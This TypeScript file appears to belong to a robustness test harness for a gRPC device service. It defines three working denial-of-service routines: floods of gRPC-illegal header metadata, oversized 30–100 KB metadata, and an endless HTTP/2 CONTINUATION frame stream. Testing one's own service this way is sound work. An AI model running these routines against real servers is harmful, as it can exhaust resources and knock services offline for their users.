/**
 * Metadata that no client library would send: names and values that gRPC does not allow, and far too much of
 * them.
 */
import type { Attack } from "./siege/attack.ts";
import { callHeaders, envelope, FLAG, FRAME, FRAME_BYTES_MAX, frame, PREFACE } from "./siege/frames.ts";
import { call, ended, HEALTH_CHECK, openSession } from "./siege/grpc-session.ts";
import { openTls, send, swarm } from "./siege/swarm.ts";

const CALLS_AT_ONCE = 20;
const ILLEGAL_BYTES = 12_000;
/** More than the daemon takes, and more than HTTP/2 can unpack. */
const LARGE = [
  { "x-a": "v".repeat(10_000), "x-b": "v".repeat(10_000), "x-c": "v".repeat(10_000) },
  { "x-large": "v".repeat(100_000) },
];
const LARGE_BYTES = 30_000;

export const illegalMetadata: Attack = {
  name: "metadata that gRPC does not allow",
  by: "stranger",
  run(target, bounds) {
    // Legal in HTTP/2, and not in gRPC: a name with a character that it does not know, and a value beyond
    // ASCII.
    const block = callHeaders("/torpor.v1.DeviceService/ListDevices", [
      ["x!illegal", "v".repeat(ILLEGAL_BYTES)],
      ["x-high", "\u00ff\u00fe"],
    ]);
    return swarm(bounds, async (tally) => {
      const socket = await openTls(target.grpc, "h2", bounds);
      socket.resume();
      await send(socket, Buffer.concat([PREFACE, frame({ type: FRAME.settings })]));
      for (let stream = 1; tally.take(block.length) && !socket.destroyed; stream += 2) {
        const flags = FLAG.endHeaders;
        const data = { type: FRAME.data, flags: FLAG.endStream, stream, payload: envelope(new Uint8Array()) };
        const head = frame({ type: FRAME.headers, flags, stream, payload: block });
        await send(socket, Buffer.concat([head, frame(data)]));
      }
      socket.destroy();
    });
  },
};

export const largeMetadata: Attack = {
  name: "metadata of 30 and of 100 KB",
  by: "stranger",
  run(target, bounds) {
    return swarm(bounds, async (tally) => {
      const session = await openSession(target.grpc, bounds);
      while (!session.destroyed && !tally.isOver) {
        const calls = [];
        for (let count = 0; count < CALLS_AT_ONCE && tally.take(LARGE_BYTES); count++) {
          const stream = call(session, HEALTH_CHECK, LARGE[count === CALLS_AT_ONCE - 1 ? 1 : 0]);
          stream.end(envelope(new Uint8Array()));
          calls.push(ended(stream));
        }
        await Promise.all(calls);
      }
      session.destroy();
    });
  },
};

export const endlessMetadata: Attack = {
  name: "metadata without an end",
  by: "stranger",
  run(target, bounds) {
    const rest = Buffer.alloc(FRAME_BYTES_MAX);
    return swarm(bounds, async (tally) => {
      const socket = await openTls(target.grpc, "h2", bounds);
      socket.resume();
      const head = { type: FRAME.headers, stream: 1, payload: callHeaders(HEALTH_CHECK) };
      await send(socket, Buffer.concat([PREFACE, frame({ type: FRAME.settings }), frame(head)]));
      const more = frame({ type: FRAME.continuation, stream: 1, payload: rest });
      while (tally.take(more.length) && !socket.destroyed) await send(socket, more);
      socket.destroy();
    });
  },
};
